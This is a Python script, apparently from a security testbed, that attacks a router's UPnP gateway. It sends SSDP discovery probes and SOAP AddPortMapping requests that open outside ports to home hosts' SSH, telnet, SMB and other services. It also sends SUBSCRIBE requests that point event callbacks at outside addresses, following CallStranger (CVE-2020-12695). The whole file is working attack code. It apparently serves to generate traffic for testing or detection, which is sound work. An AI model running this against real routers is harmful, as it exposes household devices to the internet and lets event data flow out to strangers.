"""Abuse a router's UPnP gateway: find it, read its description, open ports to hosts of the home, and have its events
sent elsewhere (CVE-2020-12695, "CallStranger").
"""

import contextlib
import http.client
import socket
from random import Random

from testbed.life.habits import SSDP
from testbed.second_home.services.gadgets import CONNECTION, GATEWAY, GATEWAY_PORT
from testbed.second_home.tools.bounds import arguments, rounds

PORTS = (22, 23, 80, 443, 445, 554, 1900, 5683, 8009, 8883)


def search(target: str, draw: Random) -> None:
    """Search the router alone, or everyone."""
    kind = draw.choice(("ssdp:all", GATEWAY, "upnp:rootdevice"))
    text = f'M-SEARCH * HTTP/1.1\r\nHOST: {SSDP[0]}:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\nST: {kind}\r\n\r\n'
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(0.4)
        asking.sendto(text.encode(), (draw.choice((target, target, SSDP[0])), 1900))
        with contextlib.suppress(OSError):
            asking.recv(2048)


def act(target: str, draw: Random, home: str) -> None:
    """One connection: a mapping made or removed, or a subscription; at times after a look at the description."""
    connection = http.client.HTTPConnection(target, GATEWAY_PORT, timeout=3)
    try:
        if draw.random() < 0.3:
            connection.request("GET", "/desc.xml")
            connection.getresponse().read()
        for _ in range(draw.choice((1, 1, 1, 3))):
            if draw.random() < 0.2:
                callback = {"CALLBACK": f"<http://203.0.113.{draw.randint(1, 254)}/>", "NT": "upnp:event"}
                connection.request("SUBSCRIBE", "/events", headers=callback)
            else:
                action = draw.choice(("AddPortMapping", "AddPortMapping", "DeletePortMapping", "GetExternalIPAddress"))
                headers = {"SOAPAction": f'"{CONNECTION}#{action}"', "Content-Type": "text/xml"}
                connection.request("POST", "/control", envelope(action, draw, home), headers)
            connection.getresponse().read()
    finally:
        connection.close()


def envelope(action: str, draw: Random, home: str) -> bytes:
    """The action in SOAP: a port outside that leads to a service of a host."""
    inside, host = draw.choice(PORTS), f"{home}{draw.randint(2, 254)}"
    return (
        '<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>'
        f'<u:{action} xmlns:u="{CONNECTION}"><NewExternalPort>{draw.randint(1024, 65000)}</NewExternalPort>'
        f"<NewProtocol>TCP</NewProtocol><NewInternalPort>{inside}</NewInternalPort>"
        f"<NewInternalClient>{host}</NewInternalClient><NewEnabled>1</NewEnabled></u:{action}></s:Body></s:Envelope>"
    ).encode()


def main() -> None:
    """Abuse."""
    options = arguments(__doc__)
    home = options.target.rpartition(".")[0] + "."
    for draw in rounds(options):
        with contextlib.suppress(OSError, http.client.HTTPException):
            if draw.random() < 0.2:
                search(options.target, draw)
            else:
                act(options.target, draw, home)


if __name__ == "__main__":
    main()
